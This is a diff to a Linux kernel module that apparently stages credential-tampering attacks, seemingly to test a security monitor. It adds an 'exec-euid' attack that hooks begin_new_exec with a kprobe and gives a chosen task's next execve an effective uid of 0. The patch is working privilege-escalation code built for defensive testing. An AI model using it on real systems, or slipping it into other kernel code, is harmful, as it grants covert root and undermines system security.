@@ -19,6 +19,7 @@
 #define pr_fmt(fmt) KBUILD_MODNAME ": " fmt
 
 #include <linux/align.h>
+#include <linux/binfmts.h>
 #include <linux/capability.h>
 #include <linux/cgroup.h>
 #include <linux/compiler.h>
@@ -33,6 +34,7 @@
 #include <linux/kallsyms.h>
 #include <linux/key.h>
 #include <linux/kmemleak.h>
+#include <linux/kprobes.h>
 #include <linux/lsm_hooks.h>
 #include <linux/miscdevice.h>
 #include <linux/mm.h>
@@ -43,6 +45,7 @@
 #include <linux/path.h>
 #include <linux/pid.h>
 #include <linux/pid_namespace.h>
+#include <linux/ptrace.h>
 #include <linux/rculist.h>
 #include <linux/rcupdate.h>
 #include <linux/reboot.h>
@@ -374,6 +377,45 @@ static int commit_own(struct task_struct *task, size_t field)
 	cred->cap_effective = CAP_FULL_SET;
 	cred->cap_permitted = CAP_FULL_SET;
 	return commit(cred);
+}
+
+/*
+ * What execve() has prepared, just before it decides what the program may become.
+ * Another task could do that, while this one sleeps in execve().
+ */
+#ifdef CONFIG_KPROBES
+static struct task_struct *exec_victim;
+
+static int at_begin_new_exec(struct kprobe *probe, struct pt_regs *regs)
+{
+	struct linux_binprm *const bprm =
+		(void *)regs_get_kernel_argument(regs, 0);
+
+	if (current == exec_victim) {
+		exec_victim = NULL;
+		bprm->cred->euid = GLOBAL_ROOT_UID;
+	}
+	return 0;
+}
+
+static struct kprobe exec_probe = {
+	.symbol_name = "begin_new_exec",
+	.pre_handler = at_begin_new_exec,
+};
+#endif
+
+static int change_exec(struct task_struct *task, size_t field)
+{
+#ifdef CONFIG_KPROBES
+	int err = exec_probe.addr ? 0 : register_kprobe(&exec_probe);
+
+	if (err)
+		return err;
+	exec_victim = task;
+	return 0;
+#else
+	return -EOPNOTSUPP;
+#endif
 }
 
 /* Nothing will revert, so nothing else puts the credential of before */
@@ -778,6 +820,8 @@ static const struct attack attacks[] = {
 	       "commit_creds(prepare_kernel_cred(&init_task))"),
 	ATTACK("commit-own", commit_own,
 	       "commit_creds() of an own copy, uid 0, all capabilities"),
+	ATTACK("exec-euid", change_exec,
+	       "what the next execve() has prepared gets euid 0"),
 	ATTACK("override-init", override_init,
 	       "override_creds(&init_cred), not reverted"),
 	ATTACK("override-kernel", override_kernel,
@@ -931,6 +975,10 @@ static int __init attack_init(void)
 static void __exit attack_exit(void)
 {
 	misc_deregister(&attack_device);
+#ifdef CONFIG_KPROBES
+	if (exec_probe.addr)
+		unregister_kprobe(&exec_probe);
+#endif
 	restore(&text_change);
 	restore(&rodata_change);
 }
